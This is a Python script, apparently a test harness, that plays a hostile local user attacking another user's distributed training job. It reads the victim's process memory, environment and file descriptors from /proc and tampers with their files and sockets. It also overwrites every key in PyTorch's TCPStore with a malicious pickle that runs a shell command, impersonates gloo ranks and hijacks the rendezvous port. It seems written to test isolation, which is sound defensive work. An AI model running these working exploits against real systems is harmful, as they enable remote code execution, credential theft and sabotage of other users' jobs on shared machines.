"""What another user tries while a user's ranks train: ``intruder.py UID PLACES PORT STOP WORD ATTACKS``, with any Python.

Until there is a file STOP: opens what UID's processes have open, and every new file of theirs in PLACES (with colons between); speaks to their sockets with abstract
names; looks for WORD in their command lines; joins at PORT where it is not 0. With ATTACKS it also connects to each TCP port at which they listen, says what the tool's peers
and torch's store say first, writes and deletes what a store holds there, and takes a rank's place with gloo. Prints what it got, as JSON.
"""

from __future__ import annotations

import collections
import contextlib
import json
import os
import socket
import stat
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

MAGIC = (0x3C85F7CE).to_bytes(4, "little")
SET, DELETE, COUNT, LIST = 1, 8, 7, 17
"""Of torch/csrc/distributed/c10d/TCPStoreBackend.hpp, QueryType."""
PICKLE = b"cposix\nsystem\n(S'touch /tmp/taken'\ntR."
GREETING = b"torchtune-sys/peers/2 " + b"0" * 32 + b"\n"
got: dict[str, str] = {}
tried: collections.Counter[str] = collections.Counter()


def attempt(what: str, do: Callable[[], Any]) -> None:
    tried[what.partition(" ")[0]] += 1
    try:
        found = do()
    except Exception:
        return
    got[what] = repr(found)[:80]


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(64)


def memory(path: str) -> bytes:
    found = read(path)
    if not found:
        raise OSError("it has ended")
    return found


def change(path: str) -> None:
    os.close(os.open(path, os.O_WRONLY))


def make(folder: str) -> None:
    open(os.path.join(folder, "x"), "w").close()


def below(folder: str) -> None:
    attempt("list " + folder, lambda: os.listdir(folder))
    for place, _, names in os.walk(folder):
        for path in (os.path.join(place, name) for name in names):
            attempt("read " + path, lambda path=path: read(path))  # type: ignore[misc]
            attempt("write " + path, lambda path=path: change(path))  # type: ignore[misc]


def speak(name: str) -> bytes:
    with socket.socket(socket.AF_UNIX) as caller:
        caller.settimeout(2)
        caller.connect(name)
        caller.sendall(b'{"event": "end", "rank": 0, "stage": "train", "verdict": "pass", "seconds": 0}\n')
        caller.sendall(b'{"is": "rank", "rank": 0, "local": 0}\n{"is": "note", "key": "node", "value": []}\n')
        answer = caller.recv(1)
        if not answer:
            raise OSError("closed")
        return answer


def processes(victim: int) -> Iterator[str]:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat("/proc/" + pid).st_uid == victim:
                yield pid
        except OSError:
            continue


def look(pid: str, word: str) -> None:
    for name in ("environ", "mem", "maps"):
        attempt(f"process {name} of {pid}", lambda: memory(f"/proc/{pid}/{name}"))  # noqa: B023
    attempt("process fd of " + pid, lambda: os.listdir(f"/proc/{pid}/fd"))
    for number in range(12):
        attempt(f"process fd {number} of {pid}", lambda: read(f"/proc/{pid}/fd/{number}"))  # noqa: B023
    tried["cmdline"] += 1
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as words:
            if word and word.encode() in words.read():
                got["secret in the command line of " + pid] = "seen"
    except OSError:
        pass


def ports(victim: int) -> Iterator[tuple[str, int]]:
    """At which the user listens, as ss says it, with an address that leads there."""
    for table in ("tcp", "tcp6"):
        with open("/proc/net/" + table) as rows:
            for row in (line.split() for line in rows):
                if row[3] == "0A" and int(row[7]) == victim:
                    address, port = row[1].split(":")
                    here = socket.inet_ntoa(struct.pack("<I", int(address, 16))) if table == "tcp" else "::1"
                    yield ("127.0.0.1" if here == "0.0.0.0" else here), int(port, 16)


def said(address: str, port: int, words: bytes, patience_s: float = 1.0) -> bytes:
    with socket.create_connection((address, port), 1) as caller:
        caller.settimeout(patience_s)
        caller.sendall(words)
        return caller.recv(1 << 16)


def text(value: bytes) -> bytes:
    return struct.pack("<Q", len(value)) + value


def store(address: str, port: int) -> None:
    """Write to torch's store what a rank would unpickle, and take away what ranks tell each other."""
    with socket.create_connection((address, port), 1) as caller:
        caller.settimeout(0.5)
        caller.sendall(b"\0" + MAGIC + bytes([COUNT]))
        if len(caller.recv(8)) < 8:
            return
        tried["store"] += 1
        held.append(caller.dup())
        caller.sendall(bytes([LIST]))
        answer = caller.recv(1 << 20)[8:]
        keys: list[bytes] = []
        while len(answer) > 8 and len(keys) < 1000:
            size = struct.unpack_from("<Q", answer)[0]
            keys.append(answer[8 : 8 + size])
            answer = answer[8 + size :]
        for key in (key for key in keys if key):
            caller.sendall(bytes([SET]) + text(key) + text(PICKLE))
            stolen.add(key.decode("ascii", "replace"))
        caller.sendall(bytes([SET]) + text(b"bob") + text(PICKLE))


def gloo(address: str, port: int) -> None:
    """Be one that connects to a rank: gloo takes who says the number that comes next."""
    for number in range(4):
        caller = socket.create_connection((address, port), 1)
        caller.sendall(struct.pack("<Q", number))
        held.append(caller)
    del held[:-200]


held: list[socket.socket] = []
stolen: set[str] = set()
met: set[object] = set()


def attack(address: str, port: int, stop: str) -> None:
    """Speak to one listener until it is gone."""
    tried["port"] += 1
    try:
        store(address, port)
        answer = said(address, port, GREETING)
        if answer.startswith(b"torchtune-sys"):
            attempt(f"peer {port}", lambda: closed(address, port))
    except OSError:
        pass
    while not os.path.exists(stop):
        try:
            socket.create_connection((address, port), 1).close()
        except OSError:
            return
        for way in (store, gloo):
            with contextlib.suppress(OSError):
                way(address, port)
        time.sleep(0.01)


def attacking(victim: int, stop: str) -> None:
    """Listeners live for moments: they are looked for without a pause. What listens before the tool's first process is the launcher's own: MPICH's mpiexec ends, and Open
    MPI's mpirun hangs, when anybody speaks to it."""
    while not os.path.exists(stop) and f"@torchtune-sys-preflight-{victim}-" not in open_names():
        time.sleep(0.002)
    known = set(ports(victim))
    while not os.path.exists(stop):
        now = set(ports(victim))
        for address, port in now - known:
            threading.Thread(target=attack, args=(address, port, stop), daemon=True).start()
        known |= now
        time.sleep(0.005)


def open_names() -> str:
    """Sockets with abstract names, of all users: any process of the machine may choose any bytes."""
    with open("/proc/net/unix", encoding="utf-8", errors="surrogateescape") as rows:
        return rows.read()


def closed(address: str, port: int) -> None:
    """Say more than a greeting; raises OSError where nothing is answered."""
    words = GREETING + b"0" * 32 + b' {"is": "who"}\n' + b"0" * 32 + b' {"is": "join", "node": 1}\n'
    answer = said(address, port, words).partition(b"\n")[2]
    if not answer:
        raise OSError("closed")
    got[f"peer {port}"] = repr(answer[:60])


def look_at_files(victim: int, known: dict[str, set[str]]) -> None:
    for place, before in known.items():
        for path in (os.path.join(place, name) for name in set(os.listdir(place)) - before):
            try:
                found = os.lstat(path)
            except OSError:
                continue
            if found.st_uid == victim and stat.S_ISDIR(found.st_mode):
                below(path)
                attempt("make " + path, lambda path=path: make(path))  # type: ignore[misc]
            elif found.st_uid == victim and stat.S_ISREG(found.st_mode):
                attempt("read " + path, lambda path=path: read(path))  # type: ignore[misc]
                attempt("write " + path, lambda path=path: change(path))  # type: ignore[misc]


def look_at_names() -> None:
    names = {row.rpartition(" ")[2] for row in open_names().split("\n")}
    for name in (name for name in names - met if str(name).startswith("@torchtune-sys-")):
        met.add(name)
        attempt("speak " + name, lambda name=name: speak("\0" + name[1:]))  # type: ignore[misc]


def join(port: int) -> None:
    """Be the first at the place where ranks meet, and stay."""
    try:
        held.append(socket.create_connection(("127.0.0.1", port), 1))
        got[f"port {port}"] = "joined"
        time.sleep(20)
    except OSError:
        pass


def main() -> None:
    victim, places, port, stop, word, attacks = sys.argv[1:]
    known = {place: set(os.listdir(place)) for place in places.split(":")}
    print("ready", flush=True)
    if attacks:
        threading.Thread(target=attacking, args=(int(victim), stop), daemon=True).start()
    while not os.path.exists(stop):
        for pid in processes(int(victim)):
            look(pid, word)
        look_at_files(int(victim), known)
        look_at_names()
        time.sleep(0.2 if attacks else 0.02 if int(port) else 0.05)  # the victim needs the processor, too
        if int(port):
            join(int(port))
    json.dump({"got": got, "tried": dict(tried), "stolen": sorted(stolen)[:50]}, sys.stdout)


if __name__ == "__main__":
    main()
